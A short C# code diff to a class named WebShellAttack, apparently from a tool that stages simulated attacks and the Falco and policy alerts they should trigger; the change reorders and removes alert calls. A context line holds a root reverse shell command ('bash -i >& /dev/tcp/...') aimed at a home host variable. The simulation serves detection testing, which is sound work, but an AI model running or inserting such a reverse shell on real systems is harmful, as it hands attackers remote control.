@@ -114,12 +114,11 @@ internal static class WebShellAttack
             Args = ["-c", $"bash -i >& /dev/tcp/{Home}/{HomePort} 0>&1"],
             Uid = 0,
         });
-        var connection = GuideAttack.Connection(from, 51874, Home, HomePort);
         stage.Pause(6);
-        stage.Alert(shell, FalcoRules.StrangeConnection, "connect", connection);
         stage.Hit(shell, Policies.StrangePort, Policies.Socket(from, 51874, Home, HomePort));
+        stage.Alert(
+            shell, FalcoRules.StrangeConnection, "connect", GuideAttack.Connection(from, 51874, Home, HomePort));
         stage.Pause(0.2);
-        stage.Alert(shell, FalcoRules.RedirectToNetwork, "dup2", connection);
         stage.Exit(shell, signal: "SIGKILL");
     }
 }
